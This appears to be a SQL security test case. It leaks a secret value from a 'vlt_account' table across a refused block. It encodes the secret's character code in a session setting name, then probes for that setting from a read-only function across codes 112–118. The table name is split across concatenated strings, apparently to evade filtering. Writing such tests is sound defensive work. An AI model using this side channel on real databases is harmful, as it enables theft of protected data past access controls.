-- Makes up a parameter by a letter in a block that is refused, and asks for it in a function that is read.
-- wants: read
-- shows: letter-116
-- setup:
CREATE FUNCTION is_there(name text) RETURNS boolean LANGUAGE sql AS 'SELECT current_setting(name, true) IS NOT NULL';
-- attack:
DO $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y1_' || ascii(value), '', true);
END $$;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE is_there('x.y1_{n}');
